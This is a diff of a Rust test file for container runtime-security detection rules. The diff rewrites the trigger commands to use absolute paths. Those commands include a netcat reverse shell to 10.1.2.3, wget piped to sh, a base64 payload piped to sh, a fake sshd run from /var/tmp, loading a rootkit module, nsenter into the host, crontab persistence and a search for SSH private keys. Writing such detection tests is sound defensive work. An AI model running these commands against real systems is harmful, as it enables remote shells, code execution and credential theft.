@@ -57,14 +57,14 @@ fn cases() -> Vec<Case> {
             "Netcat with a program to run",
             "Critical",
             ("proc.cmdline", Expect::Has("-e /bin/sh")),
-            Act::sh("nc -e /bin/sh 10.1.2.3 4000; true"),
-            Act::sh("nc 10.1.2.3 4000; true"),
+            Act::sh("/bin/nc -e /bin/sh 10.1.2.3 4000; true"),
+            Act::sh("/bin/nc 10.1.2.3 4000; true"),
         ),
         Case::new(
             "Network tool run in container",
             "Notice",
             ("proc.name", is("nc")),
-            Act::sh("nc 10.1.2.3 80; true"),
+            Act::sh("/bin/nc 10.1.2.3 80; true"),
             Act::sh("ls /; true"),
         ),
         Case::new(
@@ -78,14 +78,14 @@ fn cases() -> Vec<Case> {
             "Download piped to shell",
             "Critical",
             ("proc.cmdline", Expect::Has("wget -q -O- http://10.1.2.3/x")),
-            Act::sh("wget -q -O- http://10.1.2.3/x | sh; true"),
-            Act::sh("wget -q -O /tmp/x http://10.1.2.3/x; cat /tmp/x; true"),
+            Act::sh("/bin/wget -q -O- http://10.1.2.3/x | /bin/sh; true"),
+            Act::sh("/bin/wget -q -O /tmp/x http://10.1.2.3/x; cat /tmp/x; true"),
         ),
         Case::new(
             "Decoded payload piped to shell",
             "Critical",
             ("proc.cmdline", Expect::Has("base64 -d")),
-            Act::sh("echo ZXhpdCAw | base64 -d | sh"),
+            Act::sh("echo ZXhpdCAw | base64 -d | /bin/sh"),
             Act::sh("echo aGVsbG8K | base64 -d"),
         ),
         Case::new(
@@ -133,22 +133,22 @@ fn cases() -> Vec<Case> {
         Case::new(
             "Daemon name run from unexpected place",
             "Warning",
-            ("proc.exepath", is("/dev/shm/sshd")),
-            Act::sh(format!("{COPY} /dev/shm/sshd; /dev/shm/sshd; true")),
+            ("proc.exepath", is("/var/tmp/sshd")),
+            Act::sh(format!("mkdir -p /var/tmp; {COPY} /var/tmp/sshd; /var/tmp/sshd; true")),
             Act::sh(format!("mkdir -p /usr/sbin; {COPY} /usr/sbin/sshd; /usr/sbin/sshd; true")),
         ),
         Case::new(
             "Kernel module tool run in container",
             "Error",
             ("proc.name", is("insmod")),
-            Act::sh("insmod /tmp/rootkit.ko; true"),
+            Act::sh("/bin/insmod /tmp/rootkit.ko; true"),
             Act::sh("lsmod; true"),
         ),
         Case::new(
             "Namespace tool run in container",
             "Warning",
             ("proc.name", is("nsenter")),
-            Act::sh("nsenter -t 1 -m true; true"),
+            Act::sh("/bin/nsenter -t 1 -m true; true"),
             Act::sh("hostname; true"),
         ),
         Case::new(
@@ -164,16 +164,16 @@ fn cases() -> Vec<Case> {
             ("proc.cmdline", Expect::Has("crontab /tmp/jobs")),
             Act::sh(
                 "echo '* * * * * true' > /tmp/jobs; mkdir -p /var/spool/cron/crontabs; \
-                 crontab /tmp/jobs; true",
+                 /bin/crontab /tmp/jobs; true",
             ),
-            Act::sh("crontab -l; true"),
+            Act::sh("/bin/crontab -l; true"),
         ),
         Case::new(
             "Credential search in container",
             "Warning",
             ("proc.cmdline", Expect::Has("id_rsa")),
-            Act::sh("find /root /home -name id_rsa; true"),
-            Act::sh("find /tmp -name '*.log'; true"),
+            Act::sh("/bin/find /root /home -name id_rsa; true"),
+            Act::sh("/bin/find /tmp -name '*.log'; true"),
         ),
     ]
 }
